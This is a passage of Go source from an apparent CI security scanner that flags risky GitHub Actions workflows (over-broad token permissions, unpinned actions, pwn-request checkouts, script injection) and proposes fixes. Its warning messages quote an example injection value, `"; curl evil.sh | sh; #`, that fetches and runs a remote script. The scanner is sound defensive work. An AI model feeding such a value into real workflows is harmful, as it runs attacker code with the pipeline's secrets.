package pipelines

import (
	"context"
	"fmt"
	"regexp"
	"sort"
	"strconv"
	"strings"

	"gopkg.in/yaml.v3"

	"github.com/shiftward/shiftward/scanners"
)

// ghFile is a GitHub workflow or composite action being checked.
type ghFile struct {
	d    *doc
	kind fileKind
	// triggers maps each event name to the node that names it (a key of the
	// on: mapping, or a scalar of its sequence).
	triggers    map[string]*yaml.Node
	onKey, onV  *yaml.Node
	defaultsSh  string
	hits        []hit
	checkAgain  func(*doc) []hit
	composite   bool
	indentWidth int
}

// checkGitHub runs every GitHub rule over a workflow or action file.
func checkGitHub(d *doc, kind fileKind) []hit {
	g := &ghFile{d: d, kind: kind, triggers: map[string]*yaml.Node{}}
	g.checkAgain = func(nd *doc) []hit { return checkGitHub(nd, kind) }
	g.indentWidth = d.indentUnit()
	if kind == kindAction {
		g.checkAction()
	} else {
		g.checkWorkflow()
	}
	return g.hits
}

// privileged reports whether the workflow runs with the base repository's
// secrets and a write token on events an outsider can cause.
func (g *ghFile) privilegedTrigger() (string, *yaml.Node) {
	for _, t := range []string{"pull_request_target", "workflow_run", "issue_comment"} {
		if n, ok := g.triggers[t]; ok {
			return t, n
		}
	}
	return "", nil
}

func (g *ghFile) checkWorkflow() {
	d := g.d
	g.onKey, g.onV = get(d.root, "on")
	if g.onKey == nil {
		// yaml.v3 keeps "on" as written; YAML 1.1 readers saw "true".
		g.onKey, g.onV = get(d.root, "true")
	}
	switch {
	case g.onV == nil:
	case g.onV.Kind == yaml.ScalarNode:
		g.triggers[g.onV.Value] = g.onV
	case g.onV.Kind == yaml.SequenceNode:
		for _, it := range items(g.onV) {
			if it.Kind == yaml.ScalarNode {
				g.triggers[it.Value] = it
			}
		}
	case g.onV.Kind == yaml.MappingNode:
		for _, p := range pairs(g.onV) {
			g.triggers[p.k.Value] = p.k
		}
	}
	g.defaultsSh, _ = str(val(val(d.root, "defaults"), "run"), "shell")

	permK, permV := get(d.root, "permissions")
	_, jobs := get(d.root, "jobs")
	jobsWithout := 0
	for _, jp := range pairs(jobs) {
		if jp.v == nil || jp.v.Kind != yaml.MappingNode {
			continue
		}
		if k, v := get(jp.v, "permissions"); k != nil {
			g.checkPermissionsValue(k, v, "job "+jp.k.Value)
		} else {
			jobsWithout++
		}
		g.checkJob(jp.k, jp.v)
	}
	// The workflow's grant matters only to jobs without their own.
	if permK != nil && jobsWithout > 0 {
		g.checkPermissionsValue(permK, permV, "the workflow")
	}
	if permK == nil && g.onKey != nil && jobsWithout > 0 && !g.onlyTrigger("workflow_call") {
		g.missingPermissions(jobsWithout)
	}
}

// onlyTrigger reports whether t is the workflow's only trigger.
func (g *ghFile) onlyTrigger(t string) bool {
	_, ok := g.triggers[t]
	return ok && len(g.triggers) == 1
}

func (g *ghFile) checkAction() {
	runs := val(g.d.root, "runs")
	using, _ := str(runs, "using")
	if !strings.EqualFold(using, "composite") {
		return
	}
	g.composite = true
	_, steps := get(runs, "steps")
	for i, st := range items(steps) {
		if st.Kind == yaml.MappingNode {
			g.checkStep("action", nil, st, i)
		}
	}
}

// checkPermissionsValue flags write-all (and read-all) grants.
func (g *ghFile) checkPermissionsValue(k, v *yaml.Node, who string) {
	if v == nil || v.Kind != yaml.ScalarNode {
		return
	}
	switch strings.ToLower(strings.TrimSpace(v.Value)) {
	case "write-all":
		g.hits = append(g.hits, hit{
			rule: ruleExcessivePermissions,
			msg: fmt.Sprintf("`permissions: write-all` gives %s's GITHUB_TOKEN write access to every scope: contents, "+
				"packages, actions, pull requests, deployments. Any step that is compromised (an injected script, a "+
				"hijacked action) can then push code, publish packages or approve its own changes. Grant only the "+
				"scopes the jobs use, starting from `contents: read`.", who),
			identity: "write-all:" + who,
			anchors:  []anchor{at(k.Line, k.Column, v.Line, v.Column+len(v.Value))},
			fix:      g.replacePermissionsFix(k, v, who),
		})
	case "read-all":
		g.hits = append(g.hits, hit{
			rule:     ruleExcessivePermissions,
			severity: scanners.SeverityLow,
			msg: fmt.Sprintf("`permissions: read-all` gives %s's GITHUB_TOKEN read access to every scope, including "+
				"security events, packages and actions logs of private repositories. Grant only the scopes the jobs "+
				"use, usually `contents: read`.", who),
			identity: "read-all:" + who,
			anchors:  []anchor{at(k.Line, k.Column, v.Line, v.Column+len(v.Value))},
			fix:      g.replacePermissionsFix(k, v, who),
		})
	}
}

// replacePermissionsFix rewrites "permissions: write-all" as a block
// granting contents: read.
func (g *ghFile) replacePermissionsFix(k, v *yaml.Node, who string) func(context.Context, *pinCache) *scanners.Fix {
	return func(context.Context, *pinCache) *scanners.Fix {
		if k.Line != v.Line {
			return nil
		}
		line := g.d.line(k.Line)
		prefix := line[:k.Column-1]
		if strings.TrimSpace(prefix) != "" && strings.TrimSpace(prefix) != "-" {
			return nil
		}
		indent := strings.Repeat(" ", k.Column-1)
		e := newEdits()
		e.replace(k.Line, prefix+"permissions:")
		e.insertAfter(k.Line, indent+strings.Repeat(" ", g.indentWidth)+"contents: read")
		fx := e.fix(g.d, "grant read access to the repository contents only; add the write scopes the jobs need")
		id := "write-all:" + who
		if strings.EqualFold(strings.TrimSpace(v.Value), "read-all") {
			id = "read-all:" + who
		}
		return verified(g.d, fx, g.checkAgain, ruleExcessivePermissions, id)
	}
}

// missingPermissions reports a workflow without a top-level permissions
// block, at its on: line, with a fix adding contents: read after on:.
func (g *ghFile) missingPermissions(jobsWithout int) {
	d := g.d
	onEnd := d.end(g.onV)
	if g.onV == nil {
		onEnd = g.onKey.Line
	}
	jobs := "jobs without their own `permissions:` run"
	if jobsWithout == 1 {
		jobs = "the job without its own `permissions:` runs"
	}
	g.hits = append(g.hits, hit{
		rule: ruleMissingPermissions,
		msg: fmt.Sprintf("This workflow sets no top-level `permissions:`, so %s with the "+
			"repository's default GITHUB_TOKEN permissions, which are read-write on many repositories and "+
			"organisations. Declare the least the workflow needs; `contents: read` is enough to check out code, and "+
			"jobs that need more can ask for it in their own `permissions:`.", jobs),
		identity: "workflow",
		// Reported when the change adds the on: line (a new workflow, or its
		// triggers rewritten), not for every edit below it.
		anchors: []anchor{at(g.onKey.Line, g.onKey.Column, g.onKey.Line, 0)},
		fix: func(context.Context, *pinCache) *scanners.Fix {
			if g.onKey.Column != 1 {
				return nil
			}
			e := newEdits()
			e.insertAfter(onEnd, "permissions:", strings.Repeat(" ", g.indentWidth)+"contents: read")
			fx := e.fix(d, "add a top-level permissions block that grants read access to the repository contents")
			return verified(d, fx, g.checkAgain, ruleMissingPermissions, "workflow")
		},
	})
}

// runsOnLabels returns the literal labels of a job's runs-on and whether
// it names a runner group.
func runsOnLabels(v *yaml.Node) (labels []string, group bool) {
	v = resolve(v)
	if v == nil {
		return nil, false
	}
	switch v.Kind {
	case yaml.ScalarNode:
		return []string{v.Value}, false
	case yaml.SequenceNode:
		for _, it := range items(v) {
			if it.Kind == yaml.ScalarNode {
				labels = append(labels, it.Value)
			}
		}
		return labels, false
	case yaml.MappingNode:
		if l := val(v, "labels"); l != nil {
			labels, _ = runsOnLabels(l)
		}
		return labels, val(v, "group") != nil
	}
	return nil, false
}

func (g *ghFile) checkJob(jk, job *yaml.Node) {
	d := g.d
	jobID := jk.Value
	// Self-hosted runners on pull request events.
	if rk, rv := get(job, "runs-on"); rk != nil {
		labels, group := runsOnLabels(rv)
		selfHosted := false
		for _, l := range labels {
			if strings.EqualFold(strings.TrimSpace(l), "self-hosted") {
				selfHosted = true
			}
		}
		if selfHosted || group {
			for _, t := range []string{"pull_request", "pull_request_target"} {
				tn, ok := g.triggers[t]
				if !ok {
					continue
				}
				h := hit{
					rule: ruleSelfHostedPR,
					msg: fmt.Sprintf("Job `%s` runs on a self-hosted runner and the workflow runs on `%s`. In a public "+
						"repository anyone can open a pull request and run code on that machine, which persists between "+
						"jobs: they can plant a backdoor, read other jobs' secrets or reach the internal network. Use "+
						"GitHub-hosted runners for pull requests, or ephemeral, isolated self-hosted runners and require "+
						"approval for outside contributors.", jobID, t),
					identity: "self-hosted:" + jobID,
					anchors:  []anchor{at(rk.Line, rk.Column, d.end(rv), 0), at(tn.Line, tn.Column, tn.Line, 0)},
				}
				if !selfHosted {
					h.severity = scanners.SeverityLow
					h.msg = fmt.Sprintf("Job `%s` runs in a runner group and the workflow runs on `%s`. If the group "+
						"holds self-hosted runners, anyone who can open a pull request can run code on them. Use "+
						"GitHub-hosted runners for pull requests, or ephemeral, isolated runners.", jobID, t)
				}
				g.hits = append(g.hits, h)
				break
			}
		}
	}
	// Reusable workflow calls.
	if uk, uv := get(job, "uses"); uk != nil && uv != nil && uv.Kind == yaml.ScalarNode {
		ref, ok := parseUses(uv.Value)
		if ok && !ref.local && !ref.docker {
			g.checkUnpinned(uv, ref, "job "+jobID)
			if sk, sv := get(job, "secrets"); sk != nil && sv != nil && sv.Kind == yaml.ScalarNode &&
				strings.EqualFold(strings.TrimSpace(sv.Value), "inherit") {
				g.hits = append(g.hits, hit{
					rule: ruleSecretsInherit,
					msg: fmt.Sprintf("Job `%s` passes every secret of this repository to `%s`, a workflow from another "+
						"repository (`%s/%s`). Whoever can change that workflow (at `%s`) can read them all. Pass only "+
						"the secrets it needs by name under `secrets:`, and pin it to a commit.",
						jobID, uv.Value, ref.owner, ref.repo, ref.ref),
					identity: "secrets-inherit:" + jobID,
					anchors:  []anchor{at(sk.Line, sk.Column, sv.Line, sv.Column+len(sv.Value)), at(uv.Line, uv.Column, uv.Line, 0)},
				})
			}
		}
	}
	_, steps := get(job, "steps")
	for i, st := range items(steps) {
		if st.Kind == yaml.MappingNode {
			g.checkStep(jobID, job, st, i)
		}
	}
}

// usesRef is a parsed "uses:" value.
type usesRef struct {
	owner, repo, path, ref string
	local, docker          bool
	image                  string
}

var ownerRepo = regexp.MustCompile(`^[A-Za-z0-9_.-]+$`)

// parseUses reads owner/repo[/path]@ref, ./local or docker://image.
func parseUses(s string) (usesRef, bool) {
	s = strings.TrimSpace(s)
	switch {
	case s == "" || strings.Contains(s, "${{"):
		return usesRef{}, false
	case strings.HasPrefix(s, "./") || strings.HasPrefix(s, "../") || s == ".":
		return usesRef{local: true}, true
	case strings.HasPrefix(s, "docker://"):
		return usesRef{docker: true, image: strings.TrimPrefix(s, "docker://")}, true
	}
	name, ref, _ := strings.Cut(s, "@")
	parts := strings.SplitN(name, "/", 3)
	if len(parts) < 2 || !ownerRepo.MatchString(parts[0]) || !ownerRepo.MatchString(parts[1]) {
		return usesRef{}, false
	}
	u := usesRef{owner: parts[0], repo: parts[1], ref: ref}
	if len(parts) == 3 {
		u.path = parts[2]
	}
	return u, true
}

// resolvable reports whether the reference may be looked up through the
// host's API: a repository action whose owner, repository and ref meet
// GitHub's and git's naming rules. A sub-path action is looked up as its
// repository; the path never enters a request, nor do local and docker
// references.
func (u usesRef) resolvable() bool {
	return !u.local && !u.docker && validActionRef(u.owner, u.repo, u.ref)
}

// firstParty reports whether an action is maintained by GitHub itself.
func (u usesRef) firstParty() bool {
	o := strings.ToLower(u.owner)
	return o == "actions" || o == "github"
}

// pinned reports whether the reference cannot move.
func (u usesRef) pinned() bool {
	if u.local {
		return true
	}
	if u.docker {
		return strings.Contains(u.image, "@sha256:")
	}
	return isFullSHA(u.ref)
}

// checkUnpinned reports a uses: not pinned to a commit, with a fix when the
// resolver can name the commit.
func (g *ghFile) checkUnpinned(uv *yaml.Node, u usesRef, where string) {
	if u.pinned() {
		return
	}
	d := g.d
	h := hit{
		rule:     ruleUnpinnedAction,
		identity: "uses:" + where + ":" + uv.Value,
		anchors:  []anchor{at(uv.Line, uv.Column, uv.Line, uv.Column+len(uv.Value))},
	}
	switch {
	case u.docker:
		h.severity = scanners.SeverityLow
		h.msg = fmt.Sprintf("`%s` (%s) runs a container image by tag. A tag can be pushed again with other content; "+
			"pin the image by digest (`docker://image@sha256:...`).", uv.Value, where)
		g.hits = append(g.hits, h)
		return
	case u.ref == "":
		h.msg = fmt.Sprintf("`%s` (%s) names no version at all. Pin it to a full commit SHA.", uv.Value, where)
	case u.firstParty():
		h.severity = scanners.SeverityLow
		h.msg = fmt.Sprintf("`%s` (%s) is a GitHub-maintained action referenced by `%s`, a tag or branch that "+
			"can be moved to other code. Pinning it to the full commit SHA makes the workflow run exactly the "+
			"code that was reviewed; keep the tag as a comment so updates stay readable.", uv.Value, where, u.ref)
	default:
		h.msg = fmt.Sprintf("`%s` (%s) is a third-party action referenced by `%s`, a tag or branch its owner (or "+
			"anyone who takes over their account) can move to other code, which then runs with this job's token "+
			"and secrets, as in the tj-actions/changed-files compromise (CVE-2025-30066). Pin it to the full "+
			"commit SHA and keep the tag as a comment.", uv.Value, where, u.ref)
	}
	if !u.resolvable() {
		g.hits = append(g.hits, h) // no ref, or one no request may carry: no fix
		return
	}
	h.fix = func(ctx context.Context, pins *pinCache) *scanners.Fix {
		sha, ok := pins.resolve(ctx, u.owner, u.repo, u.ref)
		if !ok {
			return nil
		}
		line := d.line(uv.Line)
		start := uv.Column - 1
		if start < 0 || start > len(line) {
			return nil
		}
		rest := line[start:]
		newVal := strings.Replace(uv.Value, "@"+u.ref, "@"+sha, 1)
		var scalarLen int
		switch {
		case uv.Style&yaml.DoubleQuotedStyle != 0, uv.Style&yaml.SingleQuotedStyle != 0:
			q := rest[:1]
			k := strings.Index(rest[1:], q)
			if k < 0 {
				return nil
			}
			scalarLen = k + 2
			newVal = q + newVal + q
		case uv.Style == 0 && strings.HasPrefix(rest, uv.Value):
			scalarLen = len(uv.Value)
		default:
			return nil
		}
		after := strings.TrimSpace(rest[scalarLen:])
		var newLine string
		switch {
		case after == "":
			newLine = line[:start] + newVal + " # " + u.ref
		case strings.HasPrefix(after, "#"):
			old := strings.TrimSpace(strings.TrimPrefix(after, "#"))
			c := u.ref
			if old != "" && old != u.ref {
				c += " " + old
			}
			newLine = line[:start] + newVal + " # " + c
		default: // flow mapping: a comment would swallow the rest
			newLine = line[:start] + newVal + rest[scalarLen:]
		}
		e := newEdits()
		e.replace(uv.Line, newLine)
		fx := e.fix(d, fmt.Sprintf("pin %s/%s to the commit %s names (%s)", u.owner, u.repo, u.ref, sha[:12]))
		return verified(d, fx, g.checkAgain, ruleUnpinnedAction, h.identity)
	}
	g.hits = append(g.hits, h)
}

// codeInputs names action inputs (lower case) that hold code or a
// template the action evaluates.
var codeInputs = map[string][]string{
	"actions/github-script":             {"script"},
	"mikefarah/yq":                      {"cmd"},
	"azure/cli":                         {"inlinescript"},
	"azure/powershell":                  {"inlinescript"},
	"addnab/docker-run-action":          {"run"},
	"appleboy/ssh-action":               {"script"},
	"garygrossgarten/github-action-ssh": {"command"},
	"tibdex/backport":                   {"title_template", "body_template"},
	"jannekem/run-python-script-action": {"script"},
	"satackey/action-js-inline":         {"script"},
	"nick-fields/retry":                 {"command"},
	"nick-invision/retry":               {"command"},
	"wandalen/wretry.action":            {"command"},
}

// checkoutHeadRefs are expressions that name the pull request's code.
var checkoutHeadRefs = []string{
	"github.event.pull_request.head.sha",
	"github.event.pull_request.head.ref",
	"github.event.pull_request.merge_commit_sha",
	"github.head_ref",
	"github.event.workflow_run.head_sha",
	"github.event.workflow_run.head_branch",
	"github.event.workflow_run.head_commit.id",
	"github.event.workflow_run.head_repository.full_name",
	"github.event.pull_request.head.repo.full_name",
	"github.event.issue.number",
	"github.event.pull_request.number",
	"github.event.number",
}

// gitCmd is a git command that fetches or switches to a ref.
var gitCmd = regexp.MustCompile(`\bgit\s+(?:-\S+\s+)*(?:fetch|pull|checkout|switch|clone|reset)\b`)

// gitHeadRef returns the span of a git command on line that fetches or
// switches to the pull request's head by an expression
// (git fetch origin ${{ github.event.pull_request.head.sha }}), or nil.
func gitHeadRef(line string) []int {
	loc := gitCmd.FindStringIndex(line)
	if loc == nil {
		return nil
	}
	for _, e := range findExprs(line[loc[1]:]) {
		for _, r := range contextRefs(e.inner) {
			for _, h := range checkoutHeadRefs {
				// A bare number names the pull request, not a ref; it is
				// caught by the refs/pull/ form.
				if matchPath(r.path, h) && !strings.HasSuffix(h, "number") {
					return []int{loc[0], loc[1] + e.end}
				}
			}
		}
	}
	return nil
}

var prCheckoutCmd = regexp.MustCompile(`\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|pull|checkout)\b[^\n;&|]*\b(?:refs/)?pull/`)

func (g *ghFile) stepShell(job *yaml.Node, step *yaml.Node) (shell string, known bool) {
	if s, ok := str(step, "shell"); ok {
		return s, true
	}
	if job != nil {
		if s, ok := str(val(val(job, "defaults"), "run"), "shell"); ok {
			return s, true
		}
	}
	if g.defaultsSh != "" {
		return g.defaultsSh, true
	}
	if g.composite {
		return "", false // composite steps must name their shell
	}
	if job == nil {
		return "", false
	}
	labels, _ := runsOnLabels(val(job, "runs-on"))
	if len(labels) == 0 {
		return "", false
	}
	for _, l := range labels {
		if strings.Contains(l, "${{") || strings.Contains(strings.ToLower(l), "windows") {
			return "", false
		}
	}
	return "bash", true
}

// stepKey names a step in identities: its id, its name, or its position.
func stepKey(step *yaml.Node, idx int) string {
	if s, ok := str(step, "id"); ok && s != "" {
		return "id:" + s
	}
	if s, ok := str(step, "name"); ok && s != "" {
		return "name:" + s
	}
	return "#" + strconv.Itoa(idx)
}

func (g *ghFile) checkStep(jobID string, job, step *yaml.Node, idx int) {
	d := g.d
	key := jobID + "/" + stepKey(step, idx)
	// A group of parallel steps holds steps of its own.
	if pv := val(step, "parallel"); pv != nil && pv.Kind == yaml.SequenceNode {
		for i, st := range items(pv) {
			if st.Kind == yaml.MappingNode {
				g.checkStep(jobID, job, st, idx*1000+i+1)
			}
		}
	}
	var u usesRef
	hasUses := false
	if _, uv := get(step, "uses"); uv != nil && uv.Kind == yaml.ScalarNode {
		if r, ok := parseUses(uv.Value); ok {
			u, hasUses = r, true
			g.checkUnpinned(uv, r, "step "+key)
			if !r.local && !r.docker && !r.firstParty() && !r.pinned() {
				g.secretsToUnpinned(step, uv, key)
			}
			if strings.EqualFold(r.owner+"/"+r.repo, "actions/checkout") {
				g.checkCheckout(step, key)
			}
		}
	}
	// Shell scripts.
	if rk, rv := get(step, "run"); rk != nil && rv != nil && rv.Kind == yaml.ScalarNode {
		shell, known := g.stepShell(job, step)
		g.scriptInjection(rk, rv, key, "run", func() (string, bool) { return shell, known })
		g.curlPipe(rv, key)
		if t, tn := g.privilegedTrigger(); tn != nil && t != "issue_comment" {
			for _, ln := range g.scalarLines(rv) {
				loc := prCheckoutCmd.FindStringIndex(d.line(ln))
				if loc == nil {
					loc = gitHeadRef(d.line(ln))
				}
				if loc != nil {
					g.hits = append(g.hits, hit{
						rule:     ruleUntrustedCheckout,
						msg:      untrustedCheckoutMsg(t, "this script fetches the pull request's code"),
						identity: "checkout-cmd:" + key,
						anchors:  []anchor{at(ln, loc[0]+1, ln, loc[1]+1), at(tn.Line, tn.Column, tn.Line, 0)},
					})
					break
				}
			}
		}
	}
	// Code inputs of known actions.
	if hasUses {
		name := strings.ToLower(u.owner + "/" + u.repo)
		if u.path != "" {
			name += "/" + strings.ToLower(u.path)
		}
		if inputs, ok := codeInputs[name]; ok {
			for _, p := range pairs(val(step, "with")) {
				if contains(inputs, strings.ToLower(p.k.Value)) && p.v != nil && p.v.Kind == yaml.ScalarNode {
					g.scriptInjection(p.k, p.v, key, "with."+p.k.Value+" of "+u.owner+"/"+u.repo,
						func() (string, bool) { return "", false })
				}
			}
		}
	}
}

// scalarLines lists the source lines holding scalar n's text.
func (g *ghFile) scalarLines(n *yaml.Node) []int {
	var out []int
	for ln := n.Line; ln <= g.d.end(n); ln++ {
		if ln == n.Line && isBlock(n) {
			continue
		}
		out = append(out, ln)
	}
	return out
}

func untrustedCheckoutMsg(trigger, what string) string {
	return fmt.Sprintf("The workflow runs on `%s`, which runs with this repository's secrets and a token that can "+
		"write to it even for pull requests from forks, and %s. Anything that then runs that code (a build, a "+
		"test, an install script, a local action) executes attacker-controlled code with those privileges: a "+
		"\"pwn request\". Check out the base branch only, or move the work on the pull request's code to a "+
		"`pull_request` workflow without secrets and pass results through an artifact.", trigger, what)
}

// checkCheckout flags actions/checkout of the pull request's head in a
// privileged workflow.
func (g *ghFile) checkCheckout(step *yaml.Node, key string) {
	t, tn := g.privilegedTrigger()
	if tn == nil {
		return
	}
	with := val(step, "with")
	for _, field := range []string{"ref", "repository"} {
		k, v := get(with, field)
		if k == nil || v == nil || v.Kind != yaml.ScalarNode {
			continue
		}
		bad := ""
		for _, e := range findExprs(v.Value) {
			for _, r := range contextRefs(e.inner) {
				for _, h := range checkoutHeadRefs {
					if matchPath(r.path, h) {
						bad = r.path
					}
				}
			}
		}
		if bad == "" && field == "ref" && strings.Contains(v.Value, "refs/pull/") {
			bad = v.Value
		}
		if bad == "" {
			continue
		}
		if t == "issue_comment" && !strings.Contains(bad, "number") && !strings.Contains(bad, "refs/pull/") &&
			!strings.Contains(bad, "head") {
			continue
		}
		g.hits = append(g.hits, hit{
			rule:     ruleUntrustedCheckout,
			msg:      untrustedCheckoutMsg(t, fmt.Sprintf("this step checks out the pull request's code (`%s: %s`)", field, v.Value)),
			identity: "checkout:" + key,
			anchors:  []anchor{at(k.Line, k.Column, g.d.end(v), 0), at(tn.Line, tn.Column, tn.Line, 0)},
		})
		return
	}
}

// secretsToUnpinned flags secrets given to a third-party action that is
// not pinned to a commit.
func (g *ghFile) secretsToUnpinned(step, uv *yaml.Node, key string) {
	for _, section := range []string{"with", "env"} {
		for _, p := range pairs(val(step, section)) {
			if p.v == nil || p.v.Kind != yaml.ScalarNode {
				continue
			}
			var names []string
			for _, e := range findExprs(p.v.Value) {
				for _, r := range contextRefs(e.inner) {
					if strings.HasPrefix(r.path, "secrets.") || r.path == "github.token" {
						names = appendUnique(names, r.path)
					}
				}
			}
			if len(names) == 0 {
				continue
			}
			sev := scanners.SeverityUnknown
			if len(names) == 1 && (names[0] == "secrets.github_token" || names[0] == "github.token") {
				sev = scanners.SeverityMedium
			}
			g.hits = append(g.hits, hit{
				rule:     ruleSecretsToUnpinned,
				severity: sev,
				msg: fmt.Sprintf("`%s` is given to `%s` (as %s.%s), a third-party action referenced by a tag or branch "+
					"that can be moved to other code. If it is, that code receives the secret, as happened to every "+
					"user of tj-actions/changed-files (CVE-2025-30066). Pin the action to a full commit SHA.",
					strings.Join(names, "`, `"), uv.Value, section, p.k.Value),
				identity: "secret:" + key + ":" + section + "." + p.k.Value,
				anchors:  []anchor{at(p.v.Line, p.v.Column, g.d.end(p.v), 0), at(uv.Line, uv.Column, uv.Line, 0)},
			})
		}
	}
}

// curlPipe flags remote scripts piped into a shell.
func (g *ghFile) curlPipe(rv *yaml.Node, key string) {
	for _, ln := range g.scalarLines(rv) {
		text := g.d.line(ln)
		if loc := curlPipeShell.FindStringIndex(text); loc != nil {
			g.hits = append(g.hits, curlHit(ln, loc, strings.TrimSpace(text[loc[0]:loc[1]]), key))
		}
	}
}

func curlHit(ln int, loc []int, cmd, key string) hit {
	return hit{
		rule: ruleCurlPipeShell,
		msg: fmt.Sprintf("`%s` runs whatever the server returns at that moment, unreviewed and unverified: a "+
			"compromised server, DNS or mirror runs code in this pipeline with its secrets. Download the script "+
			"to a file, check its checksum or signature against a pinned value, then run it; or use a pinned "+
			"package or image.", truncate(cmd, 120)),
		identity: "curl:" + key + ":" + cmd,
		anchors:  []anchor{at(ln, loc[0]+1, ln, loc[1]+1)},
	}
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "…"
}

// exprSite is one untrusted expression found in a script.
type exprSite struct {
	span      exprSpan // in the scalar's value
	paths     []string
	line, col int // in the file
	endLine   int
	endCol    int
}

// scriptInjection reports ${{ }} expressions with untrusted contexts in a
// script, with a fix moving them into env: when the script is a shell
// script whose quoting we can follow.
func (g *ghFile) scriptInjection(sk, sv *yaml.Node, key, where string, shellOf func() (string, bool)) {
	spans := findExprs(sv.Value)
	if len(spans) == 0 {
		return
	}
	var sites []exprSite
	for _, sp := range spans {
		paths := untrusted(sp.inner, g.composite)
		if len(paths) == 0 {
			continue
		}
		sites = append(sites, exprSite{span: sp, paths: paths})
	}
	if len(sites) == 0 {
		return
	}
	g.locateExprs(sv, sites)
	group := "inject:" + key + ":" + where
	// In a run script, a site in text the shell evaluates or emits as code
	// gets no fix (its $VAR would be spliced into that code); the others
	// share one fix moving them all.
	var view *scriptView
	var safe []exprSite
	sinks := make([]sink, len(sites))
	if where == "run" {
		view = viewScript(sv.Value)
		for i := range sites {
			sinks[i] = view.sinkAt(sites[i].span.start)
			if sinks[i].kind == sinkNone {
				safe = append(safe, sites[i])
			}
		}
	}
	for i := range sites {
		s := &sites[i]
		sev := scanners.SeverityUnknown
		who := "an outside contributor controls"
		if g.composite && allInputs(s.paths) {
			sev = scanners.SeverityMedium
			who = "a calling workflow may fill with untrusted text"
		}
		msg := fmt.Sprintf("`%s` in %s (%s) is text %s. GitHub pastes it into the script before the shell "+
			"runs, so a value such as `\"; curl evil.sh | sh; #` becomes code, running with this job's token and "+
			"secrets. Pass it through an environment variable instead and quote the variable in the script.",
			truncate(strings.TrimSpace(sv.Value[s.span.start:s.span.end]), 100), where, strings.Join(s.paths, ", "), who)
		name := envName(s.paths[0])
		switch {
		case where != "run":
			read := "read it from the environment in that code"
			if strings.Contains(strings.ToLower(where), "actions/github-script") {
				read = fmt.Sprintf("read `process.env.%s` in the script", name)
			}
			msg = fmt.Sprintf("`%s` in %s (%s) is text %s. It is pasted into the code before it runs, so it can "+
				"break out of its string and run its own code with this job's token. A shell variable means nothing "+
				"there: pass it through the step's `env:` (`%s: ${{ %s }}`) and %s.",
				truncate(strings.TrimSpace(sv.Value[s.span.start:s.span.end]), 100), where, strings.Join(s.paths, ", "), who,
				name, strings.TrimSpace(s.span.inner), read)
		case sinks[i].kind != sinkNone:
			msg = fmt.Sprintf("`%s` in %s (%s) is text %s. GitHub pastes it into the script before the shell "+
				"runs, so a value such as `\"; curl evil.sh | sh; #` becomes code, running with this job's token and "+
				"secrets. %s", truncate(strings.TrimSpace(sv.Value[s.span.start:s.span.end]), 100), where,
				strings.Join(s.paths, ", "), who, sinkAdvice(sinks[i], name))
		}
		h := hit{
			rule:     ruleScriptInjection,
			severity: sev,
			msg:      msg,
			evidence: truncate(strings.TrimSpace(sv.Value[s.span.start:s.span.end]), 200),
			identity: "inject:" + key + ":" + strings.Join(strings.Fields(s.span.inner), " "),
			anchors:  []anchor{at(s.line, s.col, s.endLine, s.endCol)},
			fixGroup: group,
		}
		if where == "run" && sinks[i].kind == sinkNone {
			h.fix = g.envFix(sk, sv, view, safe, shellOf)
		}
		g.hits = append(g.hits, h)
	}
}

func allInputs(paths []string) bool {
	for _, p := range paths {
		if !strings.HasPrefix(p, "inputs.") {
			return false
		}
	}
	return true
}

// locateExprs finds each site's position in the file. The k-th expression
// of the value is the k-th "${{" of the source region when their numbers
// agree; otherwise sites fall back to the scalar's first line.
func (g *ghFile) locateExprs(sv *yaml.Node, sites []exprSite) {
	d := g.d
	type rawExpr struct{ line, col, endLine, endCol int }
	var raws []rawExpr
	first, last := sv.Line, d.end(sv)
	var b strings.Builder
	var lineStarts []int
	var lineNums []int
	for ln := first; ln <= last; ln++ {
		text := d.line(ln)
		off := 0
		if ln == first {
			if isBlock(sv) {
				continue
			}
			off = min(max(sv.Column-1, 0), len(text))
		}
		lineStarts = append(lineStarts, b.Len()-off)
		lineNums = append(lineNums, ln)
		b.WriteString(text[off:])
		b.WriteByte('\n')
	}
	src := b.String()
	pos := func(o int) (int, int) {
		i := sort.Search(len(lineStarts), func(i int) bool { return lineStarts[i] > o }) - 1
		if i < 0 {
			i = 0
		}
		return lineNums[i], o - lineStarts[i] + 1
	}
	for _, e := range findExprs(src) {
		l, c := pos(e.start)
		el, ec := pos(e.end - 1)
		raws = append(raws, rawExpr{l, c, el, ec + 1})
	}
	all := findExprs(sv.Value)
	for i := range sites {
		k := -1
		for j, e := range all {
			if e.start == sites[i].span.start {
				k = j
			}
		}
		if len(raws) == len(all) && k >= 0 {
			r := raws[k]
			sites[i].line, sites[i].col, sites[i].endLine, sites[i].endCol = r.line, r.col, r.endLine, r.endCol
		} else {
			sites[i].line, sites[i].col, sites[i].endLine = sv.Line, sv.Column, sv.Line
		}
	}
}

var envNameClean = regexp.MustCompile(`[^A-Z0-9]+`)

// envName derives a variable name from an untrusted context path:
// github.event.issue.title -> ISSUE_TITLE.
func envName(path string) string {
	p := strings.TrimPrefix(path, "github.event.")
	p = strings.TrimPrefix(p, "github.")
	p = strings.ReplaceAll(p, ".*", "")
	n := strings.Trim(envNameClean.ReplaceAllString(strings.ToUpper(p), "_"), "_")
	if n == "" {
		n = "UNTRUSTED"
	}
	if n[0] >= '0' && n[0] <= '9' {
		n = "V_" + n
	}
	return n
}

// envFix builds the fix that moves the untrusted expressions at sites (those
// of a run script that are plain words or arguments taken as data, view
// says which) into the step's env: and references each as a quoted
// variable.
func (g *ghFile) envFix(rk, rv *yaml.Node, view *scriptView, sites []exprSite, shellOf func() (string, bool)) func(context.Context, *pinCache) *scanners.Fix {
	return func(context.Context, *pinCache) *scanners.Fix {
		d := g.d
		shell, known := shellOf()
		sh := strings.ToLower(strings.TrimSpace(shell))
		if !known || !(sh == "" || sh == "bash" || sh == "sh" || strings.HasPrefix(sh, "bash ") || strings.HasPrefix(sh, "sh ")) {
			return nil
		}
		script := rv.Value
		if view == nil || len(sites) == 0 {
			return nil
		}
		step := g.stepOf(rk)
		if step == nil {
			return nil
		}
		// Names in use: the step's env and any $NAME in the script.
		used := map[string]bool{}
		envK, envV := get(step, "env")
		if envK != nil && (envV == nil || envV.Kind != yaml.MappingNode || envV.Style&yaml.FlowStyle != 0 || envV.Line == envK.Line) {
			return nil
		}
		for _, p := range pairs(envV) {
			used[strings.ToUpper(p.k.Value)] = true
		}
